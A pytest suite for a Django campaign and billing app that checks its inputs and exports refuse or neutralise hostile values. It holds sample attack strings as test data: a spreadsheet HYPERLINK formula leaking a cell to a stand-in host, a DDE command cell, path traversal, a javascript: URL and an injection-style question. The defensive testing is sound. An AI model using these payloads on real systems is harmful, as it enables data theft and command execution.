"""Every boundary fed hostile input: campaign files, provider callbacks, cost statements,
exports and the review highlighting. Each case ends in a clean refusal that names the field
(400 over HTTP, one line and exit 1 for a command) or an inert result; never a 500 or a
traceback, and nothing partial is written."""

from __future__ import annotations

import copy
import io
import json
import re
import time
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from analysis.mentions import Entity
from analysis.report_exports import report_csv, report_xlsx
from analysis.reports import build_run_report
from billing import exports
from billing.models import UpstreamStatement, UpstreamStatementLine
from billing.reconciliation import (
    MAX_STATEMENT_BYTES,
    StatementError,
    import_statement,
    reconcile,
)
from billing.services import top_up
from connectors.adapters.collector import sign_callback
from console.admin.evidence import highlighted_answer_html
from sampling.models import CallbackDelivery, Campaign, Run
from sampling.planning import PlanError, parse_campaign_spec
from sampling.spreadsheets import FORMULA_STARTS
from simulator import SimulatorHandle
from tenancy.models import Tenant
from tests.conftest import BASE_CAMPAIGN, ensure_tenant, fund_tenant
from tests.reports.conftest import collected_run, simulator  # noqa: F401  (fixture)

DEEP = 100_000
SECRET = "hardening-callback-secret"
NOW = "2026-11-11T02:00:00Z"
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/"&A1)',
    "=1+1 Beta",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]

# --- campaign files ------------------------------------------------------------------------


def _campaign(**changes: Any) -> dict[str, Any]:
    data = copy.deepcopy(BASE_CAMPAIGN)
    data.update(changes)
    return data


def _written() -> tuple[int, int, int]:
    return Tenant.objects.count(), Campaign.objects.count(), Run.objects.count()


def _launch_file(tmp_path: Path, content: str) -> CommandError:
    path = tmp_path / "campaign.json"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(CommandError) as caught:
        call_command("launch_run", str(path), stdout=io.StringIO())
    return caught.value


HOSTILE_CAMPAIGNS: dict[str, tuple[dict[str, Any], str]] = {
    "path tenant": (_campaign(tenant="../../etc"), "tenant: '../../etc' is not a slug"),
    "slash tenant": (_campaign(tenant="a/b"), "tenant: 'a/b' is not a slug"),
    "unknown tenant": (_campaign(tenant="ghost"), "unknown tenant 'ghost'"),
    "NUL question": (
        _campaign(questions=["Which CRM?\x00 DROP TABLE"]),
        "questions[0]: control character U+0000",
    ),
    "zero-width brand": (
        _campaign(brand={"name": "\u200b\u200d", "domains": ["acme.com"]}),
        "brand.name: has only invisible characters",
    ),
    "bidi brand": (
        _campaign(brand={"name": "Acme\u202eemcA", "domains": ["acme.com"]}),
        "brand.name: bidirectional control U+202E",
    ),
    "javascript domain": (
        _campaign(brand={"name": "Acme", "domains": ["javascript:alert(1)"]}),
        "brand.domains[0]: 'javascript:alert(1)' is not a hostname",
    ),
    "dict question": (_campaign(questions=[{"$gt": ""}]), "questions[0]: expected a string"),
    "long competitor": (
        _campaign(competitors=[{"name": "x" * 201}]),
        "competitors[0].name: 201 characters, over the 200 limit",
    ),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(HOSTILE_CAMPAIGNS))
def test_hostile_campaign_files_are_refused_naming_the_field(case: str, tmp_path: Path) -> None:
    ensure_tenant("acme")
    data, expected = HOSTILE_CAMPAIGNS[case]
    before = _written()
    error = _launch_file(tmp_path, json.dumps(data))
    assert expected in str(error)
    assert _written() == before


@pytest.mark.django_db
def test_an_unknown_tenant_is_one_line_and_creates_nothing(tmp_path: Path) -> None:
    error = _launch_file(tmp_path, json.dumps(_campaign(tenant="ghost")))
    assert "\n" not in str(error)
    assert _written() == (0, 0, 0)


@pytest.mark.django_db
def test_a_deep_campaign_file_is_refused_not_a_recursion_error(tmp_path: Path) -> None:
    deep = json.dumps(_campaign())[:-1] + ', "x": ' + "[" * DEEP + "]" * DEEP + "}"
    error = _launch_file(tmp_path, deep)
    assert "JSON nested deeper than" in str(error)
    assert _written() == (0, 0, 0)


@pytest.mark.django_db
def test_joiners_in_real_names_and_questions_launch(tmp_path: Path) -> None:
    fund_tenant(ensure_tenant("acme"))
    data = _campaign(
        brand={"name": "👩\u200d💻 Acme", "aliases": ["艾克米\u200d云"], "domains": ["例子.中国"]},
        questions=["Which CRM is best? 🧑\u200d🤝\u200d🧑", "x" * 2000],
    )
    path = tmp_path / "campaign.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    out = io.StringIO()
    call_command("launch_run", str(path), stdout=out)
    assert json.loads(out.getvalue())["run_id"]


_printable = st.text(st.characters(codec="utf-8"), max_size=300)


@settings(max_examples=200, deadline=None)
@given(name=_printable, question=_printable, alias=_printable, domain=_printable)
def test_any_unicode_is_refused_by_field_or_fits_the_database(
    name: str, question: str, alias: str, domain: str
) -> None:
    data = _campaign(
        name=name,
        brand={"name": "Acme", "aliases": [alias], "domains": [domain]},
        questions=[question],
    )
    try:
        spec = parse_campaign_spec(data)
    except PlanError as error:
        fields = ("name", "questions[0]", "brand.aliases[0]", "brand.domains[0]")
        assert all(problem.startswith(fields) for problem in error.problems), error.problems
        return
    texts = [spec.name, *spec.questions, *spec.brand.aliases, *spec.brand.domains]
    assert all("\x00" not in text and len(text) <= 2000 for text in texts)
    assert len(spec.name) <= 200 and all(len(a) <= 200 for a in spec.brand.aliases)


# --- provider callbacks ----------------------------------------------------------------------


def _signed_post(client: Client, raw: bytes) -> Any:
    header = sign_callback(raw, SECRET, timestamp=int(time.time()))
    return client.post(
        "/callbacks/collector/",
        raw,
        content_type="application/json",
        headers={"X-Collector-Signature": header},
    )


@pytest.mark.django_db
@pytest.mark.parametrize("signature", ["v1=\xff\xfe", "v1=é", "v1=", "garbage", "t=x"])
def test_unauthenticated_callbacks_with_odd_signatures_are_401(
    signature: str, settings: Any
) -> None:
    settings.GEO_COLLECTOR_CALLBACK_SECRET = SECRET
    header = f"t={int(time.time())},{signature}"
    response = Client().post(
        "/callbacks/collector/",
        b'{"task_id": "t"}',
        content_type="application/json",
        headers={"X-Collector-Signature": header},
    )
    assert response.status_code == 401
    assert not CallbackDelivery.objects.exists()


SIGNED_BUT_MALFORMED = {
    "long delivery id": (
        json.dumps({"task_id": "t", "delivery_id": "d" * 201}),
        "delivery_id: 201 characters",
    ),
    "long task id": (json.dumps({"task_id": "t" * 201}), "task_id: 201 characters"),
    "NUL task id": (json.dumps({"task_id": "t\x00"}), "task_id: control character U+0000"),
    "NUL delivery id": (
        json.dumps({"task_id": "t", "delivery_id": "d\x00"}),
        "delivery_id: control character",
    ),
    "dict task id": (json.dumps({"task_id": {"id": "t"}}), "task_id must be a string"),
    "deep body": ('{"task_id": "t", "x": ' + "[" * DEEP + "]" * DEEP + "}", "not a task event"),
    "not JSON": ("\xff\xfe<html>", "not a task event"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(SIGNED_BUT_MALFORMED))
def test_signed_but_malformed_callbacks_are_400_naming_the_field(case: str, settings: Any) -> None:
    settings.GEO_COLLECTOR_CALLBACK_SECRET = SECRET
    body, expected = SIGNED_BUT_MALFORMED[case]
    response = _signed_post(Client(), body.encode("utf-8", "surrogateescape"))
    assert response.status_code == 400
    assert expected in response.json()["error"]
    assert not CallbackDelivery.objects.exists()


@pytest.mark.django_db
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(task_id=st.text(max_size=250), delivery_id=st.text(max_size=250))
def test_any_signed_callback_is_200_or_a_clean_400(
    task_id: str, delivery_id: str, settings: Any
) -> None:
    settings.GEO_COLLECTOR_CALLBACK_SECRET = SECRET
    before = CallbackDelivery.objects.count()
    raw = json.dumps({"task_id": task_id, "delivery_id": delivery_id}).encode()
    response = _signed_post(Client(), raw)  # a 500 would raise here (test client)
    assert response.status_code in (200, 400), response.content
    written = CallbackDelivery.objects.count() - before
    assert written == (1 if response.status_code == 200 and not response.json()["duplicate"] else 0)


# --- cost statements -------------------------------------------------------------------------


def _statement(*rows: str) -> bytes:
    return ("upstream_id,amount,currency,occurred_at\n" + "\n".join(rows) + "\n").encode()


def _row(**hostile: str) -> str:
    """A valid statement row with the given columns replaced."""
    columns = {"upstream_id": "t1", "amount": "300", "currency": "USD", "occurred_at": NOW}
    return ",".join({**columns, **hostile}.values())


# A hostile value by column: {column: {case: (value, what the refusal says after its column)}}.
HOSTILE_VALUES = {
    "upstream_id": {
        "NUL": ("t\x001", "control character U+0000"),
        "bidi": ("t\u202e1", "bidirectional control"),
        "zero-width": ("t\u200b1", "invisible"),
        "long": ("t" * 201, "201 characters"),
    },
    "amount": {
        "over int64": ("99999999999999999999", ""),
        "negative": ("-500", "'-500' is not an amount of USD in major units"),
        "underscore": ("1_000", "'1_000'"),
        "arabic-indic": ("٣٠٠", ""),
        "full-width": ("３００", ""),
    },
    "currency": {"full-width": ("ＵＳＤ", "")},
    "occurred_at": {"NUL": (f"{NOW}\x00", "control character")},
}
HOSTILE_ROWS = {
    f"{column}: {case}": (_row(**{column: value}), f"row 2: {column}: {refusal}")
    for column, cases in HOSTILE_VALUES.items()
    for case, (value, refusal) in cases.items()
}
HOSTILE_ROWS["huge field"] = (_row(occurred_at="x" * 200_000), "row 2: not readable as CSV")


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(HOSTILE_ROWS))
def test_hostile_statement_rows_are_refused_and_nothing_is_imported(case: str) -> None:
    row, expected = HOSTILE_ROWS[case]
    with pytest.raises(StatementError) as caught:
        import_statement(provider="collector", filename="s.csv", content=_statement(row))
    assert any(problem.startswith(expected) for problem in caught.value.problems), (
        caught.value.problems
    )
    assert not UpstreamStatement.objects.exists()


@pytest.mark.django_db
def test_an_oversized_statement_is_refused_before_it_is_read(tmp_path: Path) -> None:
    content = _statement(f"t1,300,USD,{NOW}") + b"#" * MAX_STATEMENT_BYTES
    with pytest.raises(StatementError, match="over the 16777216-byte limit"):
        import_statement(provider="collector", filename="big.csv", content=content)
    path = tmp_path / "big.csv"
    path.write_bytes(content)
    with pytest.raises(CommandError, match="over the 16777216-byte limit; nothing imported"):
        call_command("import_statement", str(path), provider="collector")
    with pytest.raises(StatementError, match="provider: "):
        import_statement(provider="../x", filename="s.csv", content=_statement())
    assert not UpstreamStatement.objects.exists()


@pytest.mark.django_db
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(cells=st.lists(st.text(max_size=40), min_size=4, max_size=4))
def test_any_statement_row_imports_or_is_refused_by_row_and_column(cells: list[str]) -> None:
    out = io.StringIO()
    import csv

    csv.writer(out).writerow(cells)
    content = b"upstream_id,amount,currency,occurred_at\n" + out.getvalue().encode()
    before = UpstreamStatementLine.objects.count()
    try:
        import_statement(provider="collector", filename="p.csv", content=content)
    except StatementError as error:
        assert all(p.startswith(("row ", "file has no data")) for p in error.problems)
        assert UpstreamStatementLine.objects.count() == before


# --- exports ---------------------------------------------------------------------------------


def _no_formula_cells(book_bytes: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(book_bytes))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells if isinstance(c.value, str)]


def _csv_cells(text: str) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert_csv(text: str) -> None:
    """No cell a spreadsheet would evaluate: numbers (a signed amount) are values, not
    formulas; every other cell starting like a formula must carry the `'` prefix."""
    live = [
        cell
        for cell in _csv_cells(text)
        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
    ]
    assert not live, live


@pytest.mark.django_db
def test_ledger_and_reconciliation_exports_hold_hostile_strings_as_text() -> None:
    acme = ensure_tenant("acme")
    for n, cell in enumerate(HOSTILE_CELLS):
        top_up(tenant=acme, amount=100, currency="USD", idempotency_key=cell, memo=cell)
        upstream_id = cell.strip().replace(" ", "_")
        import_statement(
            provider="collector",
            filename=f"s{n}.csv",
            content=_statement(f'"{upstream_id.replace(chr(34), chr(34) * 2)}",5,USD,{NOW}'),
        )
    report = reconcile(platform="collector")
    assert len(report.rows) == len({cell.strip() for cell in HOSTILE_CELLS})
    for book in (exports.ledger_xlsx(), exports.reconciliation_xlsx(report)):
        strings = _no_formula_cells(book)
        assert '=HYPERLINK("http://evil.example/"&A1)' in "".join(strings)
    for text in (exports.ledger_csv(), exports.reconciliation_csv(report)):
        _assert_inert_csv(text)
        assert "'=HYPERLINK" in text


@pytest.mark.django_db
def test_report_exports_hold_a_formula_brand_as_text(simulator: SimulatorHandle) -> None:  # noqa: F811
    ensure_tenant("acme")
    # Names are shown as the operator typed them: a brand and competitors named like formulas.
    names = {"Acme": "=1+1 Beta", "Globex": HOSTILE_CELLS[2], "Initech": HOSTILE_CELLS[3]}
    run = collected_run(questions=1, repeats=1, drive=True, name="hostile", renamed=names)
    report = build_run_report(run_id=run.pk)
    assert report.brand == "=1+1 Beta"
    strings = _no_formula_cells(report_xlsx(report))
    assert "=1+1 Beta" in strings
    _assert_inert_csv(report_csv(report))
    assert "'=1+1 Beta" in report_csv(report)


# --- review highlighting ---------------------------------------------------------------------


def test_highlighting_never_breaks_a_link() -> None:
    html = highlighted_answer_html(
        "See [Acme docs](https://acme.com/pricing) — Acme wins; Globex <b>too</b>.",
        [Entity("Acme", ("acme",)), Entity("Globex")],
        "Acme",
    )
    assert 'href="https://acme.com/pricing"' in html
    assert '<mark class="geo-brand">Acme</mark> docs</a>' in html
    assert '<mark class="geo-competitor">Globex</mark>' in html
    assert "<b>" not in html or "&lt;b&gt;" in html or "<b>too</b>" in html
